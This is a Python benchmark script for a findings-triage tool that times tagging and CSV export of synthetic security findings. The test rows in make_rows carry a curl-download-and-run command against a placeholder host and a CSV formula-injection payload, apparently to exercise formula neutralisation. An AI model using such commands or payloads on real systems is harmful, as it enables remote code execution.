"""Case file benchmark: tag 10,000 findings in one batch; export 100,000 to CSV.

Run: ``python benchmarks/bench_case.py [--findings 100000]`` (under ``nice`` on a shared box).

Prints, as ratios:
* tagging 10,000 rows in one ``tag_rows`` batch vs sqlite-utils ``insert_all`` of the same
  records into a bare table (the floor: what the storage layer costs without ids, tags,
  audit and upsert);
* ``Case.export`` CSV (formulas neutralised, and ``--raw``) of N tagged findings vs the
  sqlite3 command line's own ``sqlite3 -csv`` of the same rows (the very same SELECT), and
  vs ``sqlite3 -csv 'SELECT * FROM findings'`` (no tag/notes joins). Target: within 3x.
"""

from __future__ import annotations

import argparse
import random
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import sqlite_utils  # noqa: E402

from casefile import open_case  # noqa: E402
from casefile.export import csv_select_sql  # noqa: E402


def make_rows(n: int, start: int = 0) -> list[dict]:
    rng = random.Random(start)
    rows = []
    for i in range(start, start + n):
        evil = rng.random() < 0.1
        rows.append({
            "@timestamp": f"2026-11-{1 + i % 28:02d}T{i % 24:02d}:{i % 60:02d}:{(i * 7) % 60:02d}.000Z",
            "host.name": f"host-{i % 500}",
            "agent.id": f"{i % 500:08x}-0000-4000-8000-{i:012x}",
            "user.name": "root",
            "process.parent.executable": f"/var/lib/dpkg/info/pkg{i % 300}.postinst",
            "process.parent.command_line": f"/bin/sh /var/lib/dpkg/info/pkg{i % 300}.postinst configure",
            "process.executable": "/usr/bin/curl" if i % 3 else "/bin/sh",
            "process.command_line": ("=cmd|' /C calc'!A0 " if evil else "")
            + f"curl -fsSL http://updates.example/{i}/install.sh -o /tmp/.x{i} && sh /tmp/.x{i}",
        })
    return rows


def timed(fn) -> float:
    start = time.perf_counter()
    fn()
    return time.perf_counter() - start


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--findings", type=int, default=100_000)
    parser.add_argument("--batch", type=int, default=10_000)
    args = parser.parse_args()
    sqlite3_cli = shutil.which("sqlite3")
    work = Path(tempfile.mkdtemp(prefix="bench-case-"))
    try:
        # ---------------------------------------------------------------- tag one batch
        batch = make_rows(args.batch)
        case_path = work / "case.db"
        with open_case(case_path) as case:
            t_tag = timed(lambda: case.tag_rows(batch, ["suspicious"], note="bulk triage", source_kind="elastic",
                                                source="https://es.example:9200", hunt_uuid="h", hunt_name="bench",
                                                mitre=["T1546.016"], query=2))
        bare = sqlite_utils.Database(work / "bare.db")
        bare.conn.execute("PRAGMA journal_mode = WAL")
        t_bare = timed(lambda: bare["rows"].insert_all(({"k": str(i), **r} for i, r in enumerate(batch)), pk="k"))
        bare.close()
        print(f"tag {args.batch:,} findings in one batch: {t_tag:.2f} s ({args.batch / t_tag:,.0f} rows/s); "
              f"sqlite-utils insert_all of the same rows: {t_bare:.2f} s; ratio {t_tag / t_bare:.1f}x")

        # ---------------------------------------------------------------- fill to N
        t_fill = 0.0
        with open_case(case_path) as case:
            for start in range(args.batch, args.findings, args.batch):
                rows = make_rows(min(args.batch, args.findings - start), start)
                t_fill += timed(lambda: case.tag_rows(rows,  # noqa: B023  (called at once) ["suspicious", "needs-review"], source_kind="elastic",
                                                      source="https://es.example:9200", hunt_uuid="h",
                                                      hunt_name="bench", query=2))
            total = case.info()["counts"]["findings"]
            print(f"filled the case to {total:,} findings in {t_fill:.1f} s more")

            out = work / "export.csv"
            t_csv = timed(lambda: case.export(out))
            t_raw = timed(lambda: case.export(work / "raw.csv", raw=True))
            size = out.stat().st_size
        if not sqlite3_cli:
            print("sqlite3 command line not found: no comparison")
            return
        sql, params = csv_select_sql(raw=True)
        assert not params
        same = work / "sqlite3-same.csv"
        simple = work / "sqlite3-star.csv"

        def run_cli(query: str, target: Path) -> None:
            with open(target, "wb") as handle:
                subprocess.run([sqlite3_cli, "-csv", "-header", str(case_path), query], stdout=handle, check=True)

        t_same = timed(lambda: run_cli(sql, same))
        t_star = timed(lambda: run_cli("SELECT * FROM findings", simple))
        print(f"export {total:,} findings to CSV ({size / 1e6:.0f} MB): {t_csv:.2f} s, --raw {t_raw:.2f} s")
        print(f"sqlite3 -csv of the same SELECT: {t_same:.2f} s -> ratio {t_csv / t_same:.2f}x "
              f"(--raw {t_raw / t_same:.2f}x); target within 3x")
        print(f"sqlite3 -csv 'SELECT * FROM findings' (no tags/notes): {t_star:.2f} s -> ratio {t_csv / t_star:.2f}x")
        lines = sum(1 for _ in open(work / "raw.csv", "rb"))
        lines_cli = sum(1 for _ in open(same, "rb"))
        print(f"line counts: export --raw {lines:,}, sqlite3 {lines_cli:,}")
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
